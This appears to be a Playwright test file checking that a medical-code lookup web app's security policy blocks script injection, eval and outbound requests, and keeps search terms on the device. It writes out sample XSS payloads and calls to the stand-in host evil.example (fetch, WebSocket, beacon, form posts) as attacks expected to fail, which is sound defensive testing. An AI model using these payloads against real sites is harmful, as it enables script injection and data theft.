import { expect, searchBoxName, test, type Page } from "../fixtures.ts";

test.describe("what gets into the page cannot run or call out", () => {
  test.use({
    expectedNoise:
      /refused by policy|Refused|violates|Content Security Policy|TrustedHTML|TrustedScript|net::ERR|WebSocket|Trusted/i,
  });

  /** Directives the browser enforced in this page. */
  async function refused(page: Page): Promise<string[]> {
    return page.evaluate(() => (window as { refused?: string[] }).refused ?? []);
  }

  test.beforeEach(async ({ page, open }) => {
    await page.addInitScript(() => {
      const seen: string[] = ((window as { refused?: string[] }).refused = []);
      addEventListener("securitypolicyviolation", (event) =>
        seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
      );
    });
    await open("#/code/99213");
    await expect(page.getByRole("heading", { level: 1 })).toContainText("99213");
    expect(await refused(page)).toEqual([]);
  });

  for (const [what, attack] of [
    ["HTML in a text", () => (document.createElement("div").innerHTML = "<img src=x onerror=alert(1)>")],
    ["HTML beside an element", () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>")],
    ["a frame with a document", () => (document.createElement("iframe").srcdoc = "<script>1</script>")],
    ["a script's text", () => (document.createElement("script").text = "1")],
    ["a script of another site", () => (document.createElement("script").src = "https://evil.example/x.js")],
    ["a parsed document", () => void new DOMParser().parseFromString("<b>x</b>", "text/html")],
  ] as const) {
    test(`${what} throws`, async ({ page }) => {
      const thrown = await page.evaluate(
        `(() => { try { (${attack.toString()})(); return "done"; } catch (error) { return error.name; } })()`,
      );
      expect(thrown).toBe("TypeError");
    });
  }

  test("text cannot be run as script", async ({ page }) => {
    // The test's own evaluate is exempt from the ban, a timer of the page is not.
    const thrown = await page.evaluate(
      () =>
        new Promise((resolve) => {
          setTimeout(() => {
            try {
              // oxlint-disable-next-line no-eval -- the attack itself
              resolve(`ran ${String(eval("1 + 1"))}`);
            } catch (error) {
              resolve((error as Error).name);
            }
          }, 0);
        }),
    );
    expect(thrown).toBe("EvalError");
  });

  for (const [what, directive, attack] of [
    ["a request to another site", "connect-src", () => void fetch("https://evil.example/?d=1").catch(() => undefined)],
    ["a socket to another site", "connect-src", () => void new WebSocket("wss://evil.example/")],
    ["a beacon to another site", "connect-src", () => void navigator.sendBeacon("https://evil.example/", "1")],
    ["an image of another site", "img-src", () => (new Image().src = "https://evil.example/x.png")],
    ["a style in an attribute", "style-src-attr", () => document.body.setAttribute("style", "color: red")],
    ["a script in an attribute", "script-src-attr", () => document.body.setAttribute("onclick", "window.pwned = 1")],
    [
      "a frame of another site",
      "frame-src",
      () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })),
    ],
    [
      "a base of another site",
      "base-uri",
      () => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" })),
    ],
    [
      "a form sent to another site",
      "form-action",
      () => {
        const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
        document.body.append(form);
        form.submit();
      },
    ],
  ] as const) {
    test(`${what} is refused by ${directive}`, async ({ page }) => {
      await page.evaluate(`{ try { (${attack.toString()})(); } catch {} document.body.click(); }`);
      // Newer browsers refuse a script in an attribute as text that is not trusted, before the directive sees it.
      const names = directive === "script-src-attr" ? [directive, "require-trusted-types-for"] : [directive];
      await expect
        .poll(async () => (await refused(page)).some((each) => names.some((name) => each.startsWith(name))))
        .toBe(true);
      expect(await page.evaluate(() => "pwned" in window)).toBe(false);
    });
  }

  test("the search worker cannot call out either", async ({ page }) => {
    await page.keyboard.type("knee");
    await expect(page.locator("a[data-best]")).toBeVisible();
    const worker = page.workers()[0];
    expect(worker).toBeDefined();
    const directive = await worker?.evaluate(
      () =>
        new Promise<string>((resolve) => {
          self.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
          fetch("https://evil.example/?d=1").then(
            () => resolve("it went out"),
            () => setTimeout(() => resolve("failed, but not by policy"), 2000),
          );
        }),
    );
    expect(directive).toBe("connect-src");
  });
});

test("every answer of the server carries the policy and the headers that only a server can give", async ({
  request,
  app,
}) => {
  for (const path of ["", "service-worker.js", "codebook/editions.json", "code/99213", "assets/nothing.js"]) {
    const { headers } = await request.get(`${app.url}${path}`).then((answer) => ({ headers: answer.headers() }));
    expect(headers["content-security-policy"]).toContain("default-src 'none'");
    expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
    expect(headers["content-security-policy"]).toContain("require-trusted-types-for 'script'");
    expect(headers["content-security-policy"]).not.toMatch(/unsafe-|\*/);
    expect(headers["x-content-type-options"]).toBe("nosniff");
    expect(headers["referrer-policy"]).toBe("no-referrer");
  }
  const missing = await request.get(`${app.url}assets/nothing.js`);
  expect(missing.status()).toBe(404);
  expect(missing.headers()["content-type"]).toContain("text/plain");
});

test("in a whole session no request leaves the origin, and none carries what was typed or which code was opened", async ({
  page,
  context,
  ownApp,
}) => {
  const app = await ownApp();
  const asked: { readonly url: string; readonly body: string | null; readonly method: string }[] = [];
  context.on("request", (request) =>
    asked.push({ url: request.url(), body: request.postData(), method: request.method() }),
  );
  const title = page.getByRole("heading", { level: 1 });

  await page.goto(`${app.url}#/`);
  await page.getByRole("textbox", { name: searchBoxName }).fill("colonoscopy w snare");
  await expect(page.locator("a[data-best]")).toBeVisible();
  await page.keyboard.press("Enter");
  await expect(title).toContainText("45385");
  await page.getByRole("button", { name: "Save this code" }).click();
  await page.keyboard.press("]");
  for (const address of [
    "#/search?q=knee+secretword",
    "#/section/surgery",
    "#/modifier/25",
    "#/index/c",
    "#/changes",
    "#/saved",
    "#/compare/99213,99214",
    "#/about",
    "?c=0001U",
  ]) {
    await page.goto(`${app.url}${address}`);
    await expect(title).toBeAttached();
    await page.waitForLoadState("networkidle");
  }
  await page.reload();
  await expect(title).toBeAttached();

  const { origin } = new URL(app.url);
  expect(asked.length).toBeGreaterThan(20);
  expect(asked.filter(({ url }) => new URL(url).origin !== origin)).toEqual([]);
  expect(asked.filter(({ method, body }) => method !== "GET" || body !== null)).toEqual([]);
  const onTheWire = app.log.filter((path) => path !== "/?c=0001U");
  expect(onTheWire.filter((path) => /colonoscopy|snare|secretword|[?&]q=|45385|45386|0001U/i.test(path))).toEqual([]);
});

test("nothing is kept on the device but what the person sees: no cookies, no foreign databases", async ({
  page,
  open,
  context,
}) => {
  await open("#/search?q=knee");
  await expect(page.locator("a[data-best]")).toBeVisible();
  expect(await context.cookies()).toEqual([]);
  expect(await page.evaluate(() => Object.keys(localStorage).filter((key) => !key.startsWith("fivedigit.")))).toEqual(
    [],
  );
  expect(await page.evaluate(() => Object.keys(sessionStorage))).toEqual([]);
  expect(await page.evaluate(() => JSON.stringify(Object.entries(localStorage)))).not.toContain("knee");
});
